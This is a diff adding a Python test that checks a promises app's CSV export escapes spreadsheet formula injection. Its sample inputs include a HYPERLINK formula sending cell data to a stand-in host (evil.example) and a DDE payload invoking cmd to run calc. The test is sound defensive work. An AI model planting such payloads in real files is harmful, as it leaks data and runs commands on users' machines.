@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from collections.abc import Iterator
@@ -153,3 +155,27 @@ def test_a_brand_without_promises_gets_a_scorecard_that_says_how_to_start(
         page = agent.get("/promises")
     assert page.status_code == 200, page.text
     assert "takes the PR, manager or admin role" in page.text, "an agent learns who can add one"
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    client: TestClient, session_factory: sessionmaker[Session], people: Brand
+) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Our bags promise")'
+    sign_in(client, "priya@skyways.example")
+    form = {
+        "text": hostile,
+        "campaign": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "owner": "-2+3",
+        "csrf_token": _csrf(client, "/promises/new"),
+    }
+    assert client.post("/promises/new", data=form).status_code == 303
+
+    export = client.get("/promises.csv")
+
+    assert export.status_code == 200
+    [header, row] = list(csv.reader(io.StringIO(export.text)))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["text"] == "'" + hostile
+    assert cells["campaign"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["key"][0] not in "=+-@"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
